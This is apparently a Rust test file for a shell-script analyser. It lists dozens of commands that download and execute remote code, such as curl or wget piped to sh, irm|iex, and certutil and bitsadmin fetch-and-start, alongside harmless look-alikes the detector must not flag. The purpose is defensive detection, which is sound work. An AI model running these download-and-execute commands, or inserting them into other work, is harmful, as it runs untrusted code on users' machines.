//! Scripts that run what they download or print, and their innocent twins.

use super::super::lexer::Variables;
use super::super::shell::Script;

fn lex(text: &str) -> Script {
    Script::lex(text, &mut Variables::new(), &mut 1024)
}

#[test]
fn a_download_that_is_run_is_seen_in_every_shape() {
    let told = |text: &&&str| lex(text).runs_download();
    let missed: Vec<_> = RUN.iter().filter(|text| !told(text)).collect();
    assert!(missed.is_empty(), "{missed:#?}");
    let told: Vec<_> = NOT_RUN.iter().filter(told).collect();
    assert!(told.is_empty(), "{told:#?}");
}

const RUN: &[&str] = &[
    "curl -fsSL https://x.example/i.sh | sh",
    "wget -qO- https://x.example | sudo -E bash -",
    "bash -c \"$(curl -fsSL https://x.example)\"",
    "$(curl https://x.example)",
    "bash <(curl -s https://x.example)",
    "eval `wget -O- https://x.example`",
    "cd /tmp && curl https://x.example | tee i.sh | python3",
    "source <(curl -s https://x.example)",
    "irm https://x.example | iex",
    "bash -c \"cd /tmp; $(curl https://x.example)\"",
    "curl -fsSL https://x.example/i.sh | bash -e",
    "curl -fsSL https://x.example/i.sh | sh -ex",
    "curl -fsSL https://x.example/i.sh | bash -euo pipefail",
    "curl -fsSL https://x.example/i.sh | bash -eo pipefail -s -- --yes",
    "curl -fsSL https://x.example/i.sh | bash +x",
    "curl -fsSL https://x.example/i.sh | sudo -u app bash",
    "curl -fsSL https://x.example/i.sh | sudo -n -H bash",
    "curl -fsSL https://x.example/i.sh | sudo --brand-new x bash",
    "curl -fsSL https://x.example/i.sh | doas -u app sh",
    "curl -fsSL https://x.example/i.sh | timeout 60 bash",
    "curl -fsSL https://x.example/i.sh | timeout -s KILL 60 bash -x",
    "curl -fsSL https://x.example/i.sh | nice -n 5 bash",
    "curl -fsSL https://x.example/i.sh | nice -5 ionice -c 3 bash",
    "curl -fsSL https://x.example/i.sh | stdbuf -oL bash",
    "curl -fsSL https://x.example/i.sh | setsid -w bash",
    "curl -fsSL https://x.example/i.sh | env -i X=1 bash",
    "curl -fsSL https://x.example/i.sh | X=1 sudo Y=2 bash",
    "curl -fsSL https://x.example/i.sh | command -p sh",
    "curl -fsSL https://x.example/i.sh | xargs -n 1 sh -c",
    "curl -fsSL https://x.example/i.sh | mise x node@20 -- bash",
    "curl -fsSL https://x.example/i.py | python3 -W ignore -",
    "timeout 60 curl -fsSL https://x.example/i.sh | bash",
    "if true; then curl -fsSL https://x.example/i.sh | bash; fi",
    "sudo -u app bash -c \"$(curl -fsSL https://x.example)\"",
    "bash --rcfile <(curl -fsSL https://x.example)",
    "bash -ce \"$(curl -fsSL https://x.example)\"",
    "bash -o pipefail -c \"$(curl -fsSL https://x.example)\"",
    "timeout 60 bash <(curl -fsSL https://x.example)",
    "curl -o i.sh https://x.example/i.sh && chmod +x i.sh && sudo ./i.sh",
    "curl -fsSLo i.sh https://x.example/i && sudo -u app bash -e i.sh",
    "curl -o i.sh https://x.example/i && bash -o pipefail i.sh",
    "wget -qO i.sh https://x.example/i && timeout 60 ./i.sh",
    // What gets it by another way than a plain pipe.
    "curl https://x.example | tee >(sh)",
    "curl https://x.example > >(bash -s)",
    "curl https://x.example | $SHELL",
    "curl https://x.example | \"${SHELL}\"",
    "curl https://x.example | source /dev/stdin",
    "curl https://x.example | ssh host sh",
    "curl https://x.example | ssh host 'bash -s'",
    "curl https://x.example | su -c sh",
    "curl https://x.example | docker run -i alpine sh",
    "curl https://x.example | docker exec -i box sh -e",
    "curl https://x.example | (cd /tmp; sh)",
    "curl https://x.example | { cd /tmp; sh; }",
    "curl https://x.example | while read -r l; do eval \"$l\"; done",
    "curl https://x.example | uv run --with x -",
    "uv run <(curl https://x.example)",
    "curl https://x.example | lua -",
    // A variable between.
    "x=$(curl https://x.example); eval \"$x\"",
    "x=$(curl -fsSL https://x.example) && bash -c \"$x\"",
    "x=\"$(curl https://x.example)\"; echo \"$x\" | sh",
    "x=$(curl https://x.example); bash <<< \"$x\"",
    // Programs that download when they are told to.
    "nc x.example 80 | sh",
    "openssl s_client -connect x.example:443 | sh",
    "dig +short txt x.example | sh",
    "aws s3 cp s3://b/x.sh - | sh",
    "gh api repos/u/r/contents/x | sh",
    "scp host:x.sh . && sh x.sh",
    "python3 -c \"import urllib.request as u;print(u.urlopen('https://x.example').read())\" | sh",
    "powershell -c 'irm https://x.example' | sh",
    // A program that is run by its bare name.
    "curl -L https://x.example/x -o /usr/local/bin/x && x --version",
    "curl -Lo x https://x.example && chmod +x x && sudo mv x /opt && x",
    "curl https://x.example | sudo tee /usr/local/bin/x; x",
    "curl https://x.example | tee x.sh > /dev/null; sh x.sh",
    // Windows.
    "certutil -urlcache -f https://x.example/a.exe a.exe && a.exe",
    "bitsadmin /transfer x https://x.example/a.exe a.exe & start a.exe",
    "curl -o a.bat https://x.example/a.bat && call a.bat",
];

const NOT_RUN: &[&str] = &[
    "curl https://x.example/data.json | jq .name",
    "curl -o out https://x.example; sh build.sh",
    "echo \"$(curl -s https://x.example/ip)\"",
    "bash -c 'echo hi'",
    "cat curl | sort",
    "curl -s https://x.example/a.json | python3 -m json.tool",
    "curl -s https://x.example/a.json | python3 -c 'import sys'",
    "curl -s https://x.example/a.txt | bash count-lines.sh",
    "bash deploy.sh \"$(curl -s https://x.example/ip)\"",
    "echo curl '|' sh",
    "`curl` and `sh` are programs",
    "curl -s https://x.example/a.txt | bash -e count-lines.sh",
    "curl -s https://x.example/a.txt | bash -euo pipefail count-lines.sh",
    "curl -s https://x.example/a.txt | bash -ec 'wc -l'",
    "curl -s https://x.example/a.txt | sudo -u app tee /etc/a.txt",
    "curl -s https://x.example/a.txt | timeout 60 grep bash",
    "curl -s https://x.example/a.txt | sudo -u app grep bash",
    "curl -s https://x.example/a.txt | python3 -W ignore count.py",
    "curl -o i.sh https://x.example/i.sh && sudo cat ./i.sh",
    "sudo -u app bash deploy.sh \"$(curl -s https://x.example/ip)\"",
    "curl https://x.example/a.json | tee >(jq .name)",
    "curl https://x.example/a.json | tee a.json; cat b | tee >(sh)",
    "curl https://x.example/a.sql | docker exec -i db psql",
    "curl https://x.example/a.sql | docker exec -i db bash -c psql",
    "curl https://x.example/a.tgz | ssh host tar xz",
    "curl https://x.example/a | (cd /tmp; sort)",
    "(curl -o a https://x.example/a); (bash build.sh)",
    "curl https://x.example/a | while read -r l; do echo \"$l\"; done; sh",
    "curl https://x.example/a | jq . ; eval \"$(ssh-agent)\"",
    "x=$(curl https://x.example/ip); echo \"$x\"; sh build.sh",
    "x=$(curl https://x.example/ip); y=$(date); eval \"$y\"",
    "x=$(curl https://x.example/ip); bash deploy.sh \"$x\"",
    "eval \"$(gh completion -s bash)\"",
    "$(aws ecr get-login --region x)",
    "openssl rand -hex 8 | sh count.sh",
    "curl -Lo x https://x.example && mv x /srv && y",
    "curl -o /srv/test https://x.example; test -f /srv/test",
    "git clone https://x.example/r && sh build.sh",
    "echo 'see https://x.example' | sh",
    "certutil -hashfile a.exe && a.exe",
    "msiexec /i a.msi",
    "curl https://x.example/a.json | tee a.json; sh b.sh",
    "curl -sS https://x.example/a.json | uv run python -m json.tool",
];

#[test]
fn what_is_printed_is_run_where_something_takes_it() {
    for (text, runs) in [
        ("echo a | sh", true),
        ("echo a | tee f | sudo -u app bash -e", true),
        ("echo a | tee | sh", true),
        ("echo a | tee f; sh f", true),
        ("echo a > f; chmod +x f; sudo ./f", true),
        ("for x in y; do echo a; done | sh", true),
        ("echo a | tee f; cat g | grep sh", false),
        ("echo a | tee f; cat g | sh", false),
        ("echo a > f; cat g | sh", false),
        ("./f; echo a > f", false),
        ("echo a | grep b", false),
    ] {
        let script = lex(text);
        let printed = script
            .commands
            .iter()
            .position(|c| c.words.contains(&"a".into()));
        assert_eq!(script.outputs_run()[printed.unwrap()], runs, "{text}");
    }
}

/// Reading it part by part for each part would take minutes.
#[test]
fn a_long_pipeline_is_read_once() {
    let text = "echo a | ".repeat(10_000);
    assert!(!lex(&format!("{text}cat")).outputs_run().contains(&true));
    assert!(lex(&format!("{text}sh")).outputs_run().contains(&true));
}
